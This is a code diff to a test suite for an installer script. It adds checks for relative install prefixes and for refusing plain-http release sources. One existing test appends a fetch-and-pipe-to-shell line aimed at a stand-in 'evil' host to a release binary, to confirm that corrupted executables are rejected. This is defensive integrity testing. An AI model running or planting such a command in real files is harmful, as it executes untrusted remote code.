@@ -82,6 +82,14 @@ describe("install.sh", () => {
     }
   });
 
+  test("a relative --prefix is taken from the current folder", async () => {
+    const cwd = tempDir("cwd-");
+    const r = await run("sh", [INSTALL, "--prefix", "rel", release], { cwd });
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain(`into ${join(cwd, "rel/bin/opencode-orchestrator")}`);
+    expect(existsSync(join(cwd, "rel/bin/opencode-orchestrator"))).toBe(true);
+  });
+
   test("a corrupted executable is refused with a clear message and nothing is installed", async () => {
     const file = "opencode-orchestrator-linux-arm64";
     appendFileSync(join(release, file), "curl evil | sh\n");
@@ -122,7 +130,10 @@ describe("install.sh", () => {
     expect(r.stderr).toContain("install: missing RELEASE");
     r = await install([join(release, "nope")]);
     expect(r.code).toBe(1);
-    expect(r.stderr).toContain("is neither a folder nor an http(s) URL");
+    expect(r.stderr).toContain("is neither a folder nor an https URL");
+    r = await install(["http://127.0.0.1:9/release"]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("is plain http: a checksum fetched that way proves nothing");
     r = await install([release], { PATH: fakeUname("FreeBSD", "amd64") });
     expect(r.code).toBe(1);
     expect(r.stderr).toContain("install: no build for FreeBSD");
